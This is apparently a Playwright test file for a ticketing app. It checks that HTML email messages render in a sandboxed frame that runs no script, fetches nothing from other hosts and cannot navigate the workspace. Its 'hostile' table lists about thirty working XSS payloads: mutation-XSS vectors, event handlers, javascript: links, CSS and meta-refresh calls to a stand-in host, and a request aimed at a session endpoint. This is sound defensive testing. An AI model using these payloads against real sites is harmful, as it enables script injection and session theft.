import { describe, expect, it } from "vitest";
import { testApi } from "../support/test-api.ts";
import { testDatabase } from "../support/test-database.ts";
import { findViolations, sidewaysOverflow } from "./support/find-violations.ts";
import { workspacePages, type OpenOptions } from "./support/workspace-pages.ts";

const ELSEWHERE = "https://elsewhere.example";

/** Nothing of it may be left in a frame. */
const FORBIDDEN = [
  "script, style, link, meta, base, template, form, input, button, iframe, frame, object, embed, svg, math, video, audio, source",
  "a[href]:not([href^='https:'])",
  "[style*='url'], [style*='image-set'], [style*='position'], [srcset], [background], [poster], [ping], [id], [name]",
  "img[src]",
].join(", ");

const hit = "parent.hit=1;top.hit=1";

/** What a message may try, each in a message of its own behind a word that has to be seen. */
const hostile = {
  script: `<script>${hit}</script>`,
  "a script elsewhere": `<script src='${ELSEWHERE}/script.js'></script>`,
  onerror: `<img src=x onerror='${hit}'>`,
  "handlers of everything": `<body onload='${hit}'><details open ontoggle='${hit}'>x</details><p onmouseover='${hit}' style='height:9999px'>over</p>`,
  svg: `<svg onload='${hit}'><script>${hit}</script><animate onbegin='${hit}' attributeName=x dur=1s><image href='${ELSEWHERE}/svg'/></svg>`,
  "a link in svg": `<svg><a xlink:href='javascript:${hit}'><text y=20>svg link</text></a><use href='${ELSEWHERE}/use.svg#x'/></svg>`,
  "a style in math": `<math><mtext><style><img src=x onerror='${hit}'></style></mtext></math>`,
  "mutation through a table": `<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=${hit}&gt;'>`,
  "mutation through noscript": `<noscript><p title='</noscript><img src=x onerror=${hit}>'></noscript>`,
  "mutation through a comment": `<svg></p><style><a id='</style><img src=1 onerror=${hit}>'>`,
  template: `<template><img src='${ELSEWHERE}/template' onerror='${hit}'><script>${hit}</script></template>`,
  "a shadow root": `<div><template shadowrootmode=open><img src='${ELSEWHERE}/shadow'><script>${hit}</script></template></div>`,
  form: `<form action='${ELSEWHERE}/form'><input name=p autofocus onfocus='${hit}'><button formaction='${ELSEWHERE}/formaction'>Sign in</button></form>`,
  "a clobbering name": "<form name=documentElement><input name=style></form><a id=defaultView></a>",
  refresh: `<meta http-equiv=refresh content='0;url=${ELSEWHERE}/refresh'>`,
  "a policy": '<meta http-equiv=content-security-policy content="default-src *">',
  base: `<base href='${ELSEWHERE}/base/' target=_top><img src='x.png'><a href='y'>relative</a>`,
  "a style": `<div style='background:url(${ELSEWHERE}/css)'>css</div><div style='background:u\\72l(${ELSEWHERE}/escaped)'>escaped</div>`,
  "a set in a style": `<div style='background:image-set("${ELSEWHERE}/set" 1x)'>set</div>`,
  "a sheet": `<style>@import '${ELSEWHERE}/import'; @font-face{font-family:f;src:url(${ELSEWHERE}/font)} body{background:url(${ELSEWHERE}/style);font-family:f}</style>`,
  "a linked sheet": `<link rel=stylesheet href='${ELSEWHERE}/link'><link rel=prefetch href='${ELSEWHERE}/prefetch'><link rel=dns-prefetch href='//elsewhere.example'>`,
  frames: `<iframe src='${ELSEWHERE}/frame' srcdoc='<script>${hit}</script>'></iframe><frameset><frame src='${ELSEWHERE}/set'></frameset>`,
  media: `<video poster='${ELSEWHERE}/poster' src='${ELSEWHERE}/video' autoplay></video><audio src='${ELSEWHERE}/audio' autoplay></audio><picture><source srcset='${ELSEWHERE}/source'><img></picture>`,
  "backgrounds of tables": `<table background='${ELSEWHERE}/table'><tr><td background='${ELSEWHERE}/cell'>cell</td></tr></table>`,
  srcset: `<img srcset='${ELSEWHERE}/srcset 1x' sizes=1px><img src='//elsewhere.example/schemeless'><img src='${ELSEWHERE}/plain' loading=eager>`,
  objects: `<object data='${ELSEWHERE}/object'></object><embed src='${ELSEWHERE}/embed'><applet code='${ELSEWHERE}/applet'></applet>`,
  "an address of the workspace":
    "<img src='/api/v1/Session/stolen'><img src='../api/v1/Session/stolen'>",
  "a link that runs": `<a href='javascript:${hit}'>link</a><a href='java\tscript:${hit}'>link</a><a href='&#1;javascript:${hit}'>link</a><a href='data:text/html,<script>${hit}</script>'>link</a><a href='vbscript:x'>link</a>`,
  "a link into the workspace": "<a href='/app/admin'>link</a><a href='#top' target=_top>link</a>",
  "a ping": `<a href='https://harmless.example/' ping='${ELSEWHERE}/ping' target=_top>out</a>`,
  "an overlay":
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>over</div><p style='position:absolute;top:0'>over</p>",
} as const;

describe("a message with HTML", () => {
  const api = testApi(testDatabase());
  const pages = workspacePages(api);
  const as = api.administrator;

  /** A page in which every question to somebody else, or to what no message may ask, is noted. */
  async function openWatched(options: OpenOptions) {
    const page = await pages.open("", { as, ...options });
    const asked: string[] = [];
    await page.context().route(/elsewhere\.example|harmless\.example/, async (route) => {
      asked.push(new URL(route.request().url()).pathname);
      await route.fulfill({ contentType: "text/html", body: "<title>Elsewhere</title>" });
    });
    page.on("request", (request) => {
      if (request.url().endsWith("/stolen")) asked.push("/stolen");
    });
    return { page, asked };
  }

  async function openMessage(html: string, options: { readonly colorScheme?: "light" | "dark" }) {
    const { json } = await api.call("SaveTicketEntity", { body: { Title: "Mail from outside" } });
    await api.call("SaveTicketMessageEntity", {
      body: { Ticket: { TicketId: json.TicketId }, HtmlBody: html, Type: "Html" },
    });
    const { page, asked } = await openWatched(options);
    await page.goto(`${api.url}/app/tickets/${String(json.TicketId)}`);
    return { page, asked, body: page.frameLocator("iframe[title^='Message of']").locator("body") };
  }

  it("runs nothing, fetches nothing and leads nowhere, whatever the server lets through", async () => {
    const { json: ticket } = await api.call("SaveTicketEntity", { body: { Title: "Mail" } });
    const bodies = new Map<string, string>();
    for (const [name, html] of Object.entries(hostile)) {
      const { json } = await api.call("SaveTicketMessageEntity", {
        body: { Ticket: { TicketId: ticket.TicketId }, HtmlBody: "<p>x</p>", Type: "Html" },
      });
      const { EjMessageId: id } = json as unknown as { readonly EjMessageId: number };
      bodies.set(String(id), `<p>${name}</p>${html}`);
    }
    // What is hostile is refused by the policy of the page even where it is only taken apart.
    const { page, asked } = await openWatched({ mayComplain: /Content Security Policy/ });
    // The server cleans what it stores; the frame may not rely on that.
    await page.route("**/api/v1/TicketMessage/*", async (route) => {
      const response = await route.fetch();
      const message = (await response.json()) as object;
      const id = new URL(route.request().url()).pathname.split("/").at(-1) ?? "";
      await route.fulfill({ response, json: { ...message, HtmlBody: bodies.get(id) } });
    });
    await page.goto(`${api.url}/app/tickets/${String(ticket.TicketId)}?show=messages`);
    const earlier = page.getByRole("button", { name: /earlier message/ });
    await earlier.click();
    await earlier.click();
    const frames = page.locator("iframe[title^='Message of']");
    await expect.poll(() => frames.count(), { timeout: 15_000 }).toBe(bodies.size);
    for (const [index, name] of Object.keys(hostile).entries()) {
      const body = frames.nth(index).contentFrame().locator("body");
      await body.getByText(name, { exact: true }).waitFor();
      expect([name, await body.locator(FORBIDDEN).count()]).toEqual([name, 0]);
      for (const link of await body.getByText("link", { exact: true }).all()) await link.click();
    }
    await page.waitForLoadState("networkidle");
    expect(asked).toEqual([]);
    expect(await page.evaluate("window.hit")).toBeUndefined();
    expect(page.context().pages()).toHaveLength(1);
    expect(await page.getByRole("heading", { name: "Mail" }).count()).toBe(1);
    // So many frames take their time on a busy machine.
  });

  it("shows pictures from elsewhere only when they are asked for, and opens links beside", async () => {
    const { page, asked, body } = await openMessage(
      `<p>See</p><img src="${ELSEWHERE}/pixel"><a href="${ELSEWHERE}/read">Read</a>`,
      {},
    );
    await body.getByText("See").waitFor();
    expect(asked).toEqual([]);
    await page.getByRole("button", { name: "Show images" }).click();
    await expect.poll(() => asked).toEqual(["/pixel"]);
    const opened = page.context().waitForEvent("page");
    await body.getByRole("link", { name: "Read" }).click();
    expect(await (await opened).evaluate("window.opener")).toBeNull();
  });

  it.each(["light", "dark"] as const)(
    "is as high as its text and can be read, in the %s",
    async (colorScheme) => {
      const lines = Array.from({ length: 40 }, (_, line) => `<p>Line ${String(line)}</p>`).join("");
      const { page, body } = await openMessage(`${lines}<p style="color:#000">Black</p>`, {
        colorScheme,
      });
      await body.getByText("Black").waitFor();
      // Asked from the page: the frame itself answers nothing, for it runs nothing.
      const frame = 'document.querySelector("iframe")';
      const missing = `${frame}.clientHeight - ${frame}.contentDocument.body.scrollHeight`;
      await expect.poll(() => page.evaluate(missing)).toBe(0);
      expect(await page.evaluate(`${frame}.clientHeight > 800`)).toBe(true);
      const scheme = `getComputedStyle(${frame}.contentDocument.documentElement).colorScheme`;
      expect(await page.evaluate(scheme)).toBe("light");
      expect(await findViolations(page)).toEqual([]);
      await page.setViewportSize({ width: 320, height: 700 });
      expect(await sidewaysOverflow(page)).toBe(0);
    },
  );
});
